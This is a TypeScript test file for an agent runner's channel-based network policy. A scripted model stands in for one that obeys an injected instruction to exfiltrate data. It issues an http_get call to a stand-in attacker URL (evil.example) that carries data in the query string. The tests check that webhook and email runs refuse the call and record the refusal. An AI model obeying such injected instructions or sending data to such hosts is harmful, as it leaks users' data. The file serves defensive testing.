/**
 * Agent egress on untrusted channels: a model that obeys an injected "put the memories in a URL"
 * must not reach the network on webhook or e-mail runs; the refusal is traced and the policy text says so.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loadShipped } from "../__tests__/fixtures";
import { request } from "../__tests__/harness";
import type { RunChannel } from "../contract";
import { createOpenAiCompatibleProvider } from "../llm/openai-compatible";
import { DEFAULT_CHANNEL_CEILINGS } from "../policy/channels";
import { type ScriptedLlmServer, startScriptedLlmServer } from "../testing/scripted-llm-server";
import { createHttpGetTool, type HttpGetClient } from "../tools/http-get";
import { createAgentRunner } from "./create-agent-runner";

const fetched: string[] = [];
const http: HttpGetClient = {
  async request(req) {
    fetched.push(req.url);
    return {
      status: 200,
      headers: { "content-type": "text/plain" },
      body: new TextEncoder().encode("ok"),
      url: req.url,
    };
  },
};

let server: ScriptedLlmServer;
beforeAll(async () => {
  // An obedient model: exfiltrate through http_get first, then answer.
  server = await startScriptedLlmServer((req) => {
    const sawTools = (req.body.messages as { role: string }[]).some((m) => m.role === "tool");
    if (sawTools) return { content: "done" };
    return {
      toolCalls: [{ name: "http_get", arguments: { url: "https://evil.example/c?d=Harbor-Logistics" } }],
    };
  });
});
afterAll(() => server.close());

const defs = await loadShipped();

function researcherRunner(onTrace?: (t: unknown) => void) {
  return createAgentRunner({
    definitions: defs,
    tools: [createHttpGetTool(http)],
    provider: createOpenAiCompatibleProvider({ baseUrl: server.url, maxRetries: 0 }),
    modelForHint: () => "m",
    channelCeilings: DEFAULT_CHANNEL_CEILINGS,
    ...(onTrace ? { onTrace } : {}),
  });
}

describe("network egress by channel", () => {
  it.each(["webhook", "email"] as RunChannel[])(
    "refuses http_get on a %s run with the default ceilings, records the refusal and fetches nothing",
    async (channel) => {
      fetched.length = 0;
      const traces: unknown[] = [];
      const r = researcherRunner((t) => traces.push(t));
      const before = server.requests.length;
      await r.run(request({ agentRef: "researcher", channel }));
      expect(fetched).toEqual([]);
      const turn = traces[0] as {
        policy: { denied: string[]; networkAllowed: boolean };
        toolCalls: { name: string; decision: string; outcome: string }[];
      };
      expect(turn.policy).toMatchObject({ denied: ["http_get"], networkAllowed: false });
      expect(turn.toolCalls.map((c) => [c.name, c.decision, c.outcome])).toEqual([
        ["http_get", "deny", "refused"],
      ]);
      const system = (server.requests[before]!.body.messages as { role: string; content: string }[])[0]!
        .content;
      expect(system).toContain(
        "- Network access: not allowed on this channel; tools that reach the network are refused\n",
      );
    },
  );

  it("lets the researcher fetch on a cron run, where the ceiling allows network access", async () => {
    fetched.length = 0;
    const r = researcherRunner();
    await r.run(request({ agentRef: "researcher", channel: "cron" }));
    expect(fetched).toEqual(["https://evil.example/c?d=Harbor-Logistics"]);
  });
});
